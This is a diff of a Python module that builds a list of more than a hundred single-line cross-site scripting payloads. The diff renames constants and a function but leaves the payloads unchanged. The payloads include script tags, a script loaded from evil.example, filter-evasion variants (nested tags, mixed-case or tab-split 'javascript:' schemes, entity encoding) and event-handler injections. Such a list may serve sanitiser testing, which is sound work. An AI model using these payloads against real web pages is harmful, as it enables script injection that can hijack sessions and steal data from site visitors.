@@ -1,4 +1,4 @@
-"""Texts that would become part of a page which puts them there as markup: over a hundred of them, each on one line."""
+"""More than a hundred single-line texts that inject markup into a page which does not escape them."""
 
 from __future__ import annotations
 
@@ -7,8 +7,12 @@ from collections.abc import Iterator
 EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
 ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe")
 SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,", "&#106;avascript:")
-CARRIERS = ('<a href="{}alert(1)">x</a>', '<iframe src="{}alert(1)">', '<form action="{}alert(1)"><button>x</form>')
-ALONE = (
+SCHEME_TEMPLATES = (
+    '<a href="{}alert(1)">x</a>',
+    '<iframe src="{}alert(1)">',
+    '<form action="{}alert(1)"><button>x</form>',
+)
+SINGLE_TEXTS = (
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
@@ -62,14 +66,14 @@ ALONE = (
 )
 
 
-def _made() -> Iterator[str]:
-    yield from ALONE
+def _generate() -> Iterator[str]:
+    yield from SINGLE_TEXTS
     for element in ELEMENTS:
         for event in EVENTS:
             yield f"<{element} {event}=alert(1)>"
     for scheme in SCHEMES:
-        for carrier in CARRIERS:
+        for carrier in SCHEME_TEMPLATES:
             yield carrier.format(scheme)
 
 
-HOSTILE = tuple(_made())
+HOSTILE = tuple(_generate())
